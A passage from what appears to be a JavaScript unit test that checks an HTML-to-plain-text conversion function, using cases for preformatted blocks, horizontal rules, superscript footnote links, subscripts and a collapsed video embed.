  ["<pre>a</pre><pre>b</pre>", "a b"],
  ["a<hr>b", "a b"],
  [
    'a medicine<sup><a href="#text-note-2" id="text-note-ref-2">2</a></sup> to ask about, H<sub>2</sub>O',
    "a medicine to ask about, H2O",
  ],
  ['a<details class="embed"><summary>Play the video from YouTube</summary></details>b', "a b"],
])("%s reads %j", (html, text) => expect(toText(html)).toBe(text));
